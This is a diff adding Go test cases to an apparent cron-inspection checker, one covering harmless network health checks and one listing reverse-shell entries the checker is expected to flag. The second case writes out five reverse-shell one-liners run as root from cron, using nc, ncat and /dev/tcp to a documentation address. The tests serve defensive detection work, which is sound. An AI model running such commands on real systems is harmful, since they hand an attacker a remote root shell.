@@ -16,6 +16,14 @@ func TestSchedules(t *testing.T) {
 			"strange[/var/spool/cron/crontabs/root:6].kind": `"opens a shell to the network"`, "strange[/var/spool/cron/crontabs/root:7].kind": `"fetches and runs"`,
 			"strange[/etc/cron.d/y:1].kind": `"runs from a temporary directory"`,
 		}},
+		{"a wget that clobbers nothing, and ports that are tried", "-- /etc/cron.d/x --\n0 1 * * * root wget -nc -r -e robots=off https://example.com/bash.sh\n* * * * * root bash -c '</dev/tcp/db/5432' || systemctl restart app\n" +
+			"* * * * * root bash -c 'exec 3<>/dev/tcp/127.0.0.1/80; echo HEAD / >&3; grep -q 200 <&3' || /opt/alert.sh\n* * * * * root nc -z -w 3 db 5432 || sh /opt/alert.sh\n* * * * * root ncat -c /etc/shells db 1\n", map[string]string{"strange": "[]", "lines": "5"}},
+		{"shells at the other end", "-- /etc/cron.d/x --\n* * * * * root nc -e /bin/sh 192.0.2.9 4444\n* * * * * root /usr/bin/ncat 192.0.2.9 4444 --sh-exec=bash\n* * * * * root nc 192.0.2.9 4444 -c 'sh -i'\n" +
+			"* * * * * root exec 5<>/dev/tcp/192.0.2.9/4444; cat <&5 | while read line; do $line 2>&5 >&5; done\n* * * * * root 0<&196;exec 196<>/dev/tcp/192.0.2.9/4242; sh <&196 >&196 2>&196\n", map[string]string{
+			"strange[/etc/cron.d/x:1].kind": `"opens a shell to the network"`, "strange[/etc/cron.d/x:2].kind": `"opens a shell to the network"`,
+			"strange[/etc/cron.d/x:3].kind": `"opens a shell to the network"`, "strange[/etc/cron.d/x:4].kind": `"opens a shell to the network"`,
+			"strange[/etc/cron.d/x:5].kind": `"opens a shell to the network"`,
+		}},
 		{"closed", "-- /etc/crontab !permission --\n", map[string]string{"(reason)": "permission denied"}},
 		{"no cron", "", map[string]string{"lines": "0", "strange": "[]"}},
 	} {
